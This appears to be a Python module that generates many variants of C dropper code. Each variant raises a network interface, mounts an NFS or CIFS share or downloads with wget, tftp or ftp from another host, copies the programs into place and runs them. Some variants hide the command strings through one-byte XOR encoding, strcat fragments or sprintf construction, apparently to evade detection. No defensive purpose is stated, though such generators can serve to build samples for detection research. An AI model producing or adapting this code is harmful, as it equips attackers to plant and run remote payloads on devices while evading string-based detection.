"""The chain in C: interface up, something from another machine, copied over programs, run. One function for each technique."""
import shell
from source import Source, argv, quoted

SPAWN = """
static int spawn(char *const arguments[])
{
    int status = -1;
    pid_t child = fork();
    if (child == 0) {
        execvp(arguments[0], arguments);
        _exit(127);
    }
    if (child > 0)
        waitpid(child, &status, 0);
    return status;
}
"""
COPY = """
static int copy_file(const char *from, const char *to)
{
    char block[512];
    size_t size;
    FILE *in = fopen(from, "rb"), *out = fopen(to, "wb");
    if (!in || !out)
        return -1;
    while ((size = fread(block, 1, sizeof block, in)) > 0)
        fwrite(block, 1, size, out);
    fclose(in);
    fclose(out);
    return chmod(to, 0755);
}
"""


def calls(texts):
    """Several calls of system, the copy only where the mount worked."""
    first, get, *rest = texts
    inside = "\n".join(f"        system({quoted(text)});" for text in rest)
    return f"    system({quoted(first)});\n    sleep(1);\n    if (system({quoted(get)}) == 0) {{\n{inside}\n    }}"


def one_text(words):
    texts = shell.chain(words)
    return Source("", f"    system({quoted(words.lot.choice(('; ', ' && ')).join(texts))});")


def several(words):
    return Source("", calls(shell.chain(words)))


def cifs(words):
    return Source("", calls(shell.chain(words, " ".join(shell.cifs(words)))))


def fetched(tool):
    def make(words):
        get, at = shell.download(words, tool), words.temporary
        put = words.lot.choice((f"cp -f {at} {words.target}; chmod +x {words.target}", f"mv {at} {words.target} && chmod 755 {words.target}"))
        return Source("", calls([" ".join(shell.up(words)), get, put, shell.run_text(words)]))
    return make


def popen(words):
    lines = []
    for text in shell.chain(words):
        lines.append(f'    pipe = popen({quoted(text)}, "r");\n    if (pipe) {{\n        fgets(line, sizeof line, pipe);\n        pclose(pipe);\n    }}')
    return Source("", "    FILE *pipe;\n    char line[80];\n" + "\n".join(lines))


def lists(words):
    return [shell.up(words), shell.mount(words), shell.copy(words), shell.run(words)]


def full(name):
    return name if name.startswith("/") else {"ifconfig": "/sbin/", "ip": "/sbin/"}.get(name, "/bin/") + name


def execs(call):
    """execl and execlp with the arguments one by one."""
    def make(words):
        lines = ["    pid_t child;"]
        for step in lists(words):
            path = quoted(step[0] if call == "execlp" else full(step[0]))
            lines.append(f"    child = fork();\n    if (child == 0) {{\n        {call}({path}, {argv(step)});\n        _exit(127);\n    }}\n    waitpid(child, 0, 0);")
        return Source("", "\n".join(lines))
    return make


def arrays(words):
    """execv with arrays that are built on the stack."""
    steps, lines = lists(words), ["    pid_t child;"]
    for number, step in enumerate(steps):
        lines.append(f"    char *step{number}[] = {{{argv(step)}}};")
    for number, step in enumerate(steps):
        lines.append(f"    if ((child = fork()) == 0) {{\n        execv({quoted(full(step[0]))}, step{number});\n        _exit(127);\n    }}\n    waitpid(child, 0, 0);")
    return Source("", "\n".join(lines))


def array_tables(words):
    """execve with arrays that lie in data."""
    parts, lines = ["extern char **environ;"], ["    pid_t child;"]
    for number, step in enumerate(lists(words)):
        parts.append(f"static char *const step{number}[] = {{{argv(step)}}};")
        lines.append(f"    if ((child = fork()) == 0) {{\n        execve({quoted(full(step[0]))}, step{number}, environ);\n        _exit(127);\n    }}\n    waitpid(child, 0, 0);")
    return Source("\n".join(parts), "\n".join(lines))


def spawned(words):
    """Arrays that are handed to one function that runs them."""
    lines = []
    for number, step in enumerate(lists(words)):
        lines.append(f"    char *step{number}[] = {{{argv(step)}}};\n    spawn(step{number});")
    return Source(SPAWN, "\n".join(lines))


def text_table(words):
    rows = ",\n    ".join(quoted(text) for text in shell.chain(words))
    return Source(f"static const char *const steps[] = {{\n    {rows},\n}};", "    unsigned i;\n    for (i = 0; i < sizeof steps / sizeof *steps; i++)\n        system(steps[i]);")


def wrapped(words):
    """The texts go through a function of the program's own."""
    parts = '__attribute__((noinline)) static int shell(const char *text)\n{\n    int status = system(text);\n    if (status)\n        perror("shell");\n    return status;\n}'
    return Source(parts, calls(shell.chain(words)).replace("system(", "shell("))


def mount_call(words):
    up, _, put, run = shell.chain(words)
    options = f"nolock,addr={words.address}"
    return Source("", f"""    system({quoted(up)});
    if (mount({quoted(words.address + ':' + words.share)}, {quoted(words.mount)}, "nfs", MS_NOATIME, {quoted(options)}) == 0) {{
        system({quoted(put)});
        system({quoted(run)});
    }}""")


def mount_syscall(words):
    source = mount_call(words)
    source.body = source.body.replace("mount(", "syscall(SYS_mount, ", 1)
    return source


def native(words):
    """No shell at all: ioctl, mount, a copy loop, execv."""
    parts = COPY + f"""
static int raise_interface(const char *name)
{{
    struct ifreq request;
    int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&request, 0, sizeof request);
    strncpy(request.ifr_name, name, IFNAMSIZ - 1);
    ioctl(socket_, SIOCGIFFLAGS, &request);
    request.ifr_flags |= IFF_UP | IFF_RUNNING;
    return ioctl(socket_, SIOCSIFFLAGS, &request);
}}
"""
    return Source(parts, f"""    char *arguments[] = {{{quoted(words.target)}, 0}};
    raise_interface({quoted(words.interface)});
    if (mount({quoted(words.address + ':' + words.share)}, {quoted(words.mount)}, "nfs", 0, "nolock,addr={words.address}") != 0)
        return 0;
    copy_file({quoted(words.mount + '/' + words.program)}, {quoted(words.target)});
    execv({quoted(words.target)}, arguments);""")


def three_functions(words):
    up, get, put, run = shell.chain(words)
    parts = f"""
__attribute__((noinline)) static void prepare(void)
{{
    system({quoted(up)});
    sleep(2);
}}
__attribute__((noinline)) static int fetch(void)
{{
    return system({quoted(get)});
}}
__attribute__((noinline)) static void install(void)
{{
    system({quoted(put)});
    system({quoted(run)});
}}
"""
    return Source(parts, "    prepare();\n    if (fetch() == 0)\n        install();")


def library(words):
    source = words.lot.choice((several, three_functions, popen))(words)
    source.library = True
    return source


def formatted(call):
    """The texts are built by sprintf or snprintf."""
    def make(words):
        to = "text, " if call == "sprintf" else "text, sizeof text, "
        return Source(f'static const char server[] = {quoted(words.address)};\nstatic const char place[] = {quoted(words.mount)};', f"""    char text[256];
    {call}({to}"ifconfig %s up", {quoted(words.interface)});
    system(text);
    {call}({to}"mount -t %s -o %s %s:%s %s", "nfs", {quoted(words.options)}, server, {quoted(words.share)}, place);
    if (system(text) != 0)
        return 0;
    {call}({to}"cp -rf %s/* %s/", place, {quoted(words.folder)});
    system(text);
    {call}({to}"%s/%s &", {quoted(words.folder)}, {quoted(words.program)});
    system(text);""")
    return make


def joined(words):
    """strcpy and strcat of pieces."""
    lines = ["    char text[256];"]
    for text in shell.chain(words):
        pieces, at = [], 0
        while at < len(text):
            size = words.lot.randrange(4, 14)
            pieces.append(text[at:at + size])
            at += size
        lines.append(f"    strcpy(text, {quoted(pieces[0])});")
        lines += [f"    strcat(text, {quoted(piece)});" for piece in pieces[1:]]
        lines.append("    system(text);")
    return Source("", "\n".join(lines))


def hidden(words):
    """The texts are XORed with one byte."""
    key, parts, lines = words.key[0], [], ["    char text[256];"]
    for number, text in enumerate(shell.chain(words)):
        codes = ", ".join(str(byte ^ key) for byte in text.encode() + b"\0")
        parts.append(f"static const unsigned char step{number}[] = {{{codes}}};")
        lines.append(f"    reveal(text, step{number}, sizeof step{number});\n    system(text);")
    parts.append(f"static void reveal(char *to, const unsigned char *from, unsigned size)\n{{\n    unsigned i;\n    for (i = 0; i < size; i++)\n        to[i] = from[i] ^ {key};\n}}")
    return Source("\n".join(parts), "\n".join(lines))


def starts_script(words):
    """The program's part of a tree: it starts the script that holds the chain."""
    return Source("", f"    if (access({quoted(words.script)}, R_OK) == 0)\n        system({quoted('sh ' + words.script)});")


TECHNIQUES = {
    "one-text": one_text, "several-calls": several, "popen": popen, "execl": execs("execl"), "execlp": execs("execlp"),
    "execv-arrays": arrays, "execve-tables": array_tables, "spawned-arrays": spawned, "text-table": text_table, "wrapper": wrapped,
    "mount-call": mount_call, "mount-syscall": mount_syscall, "native": native, "three-functions": three_functions, "library": library,
    "sprintf": formatted("sprintf"), "snprintf": formatted("snprintf"), "strcat": joined, "cifs": cifs, "wget": fetched("wget"),
    "tftp": fetched("tftp"), "ftp": fetched("ftp"), "text-xor1": hidden,
}
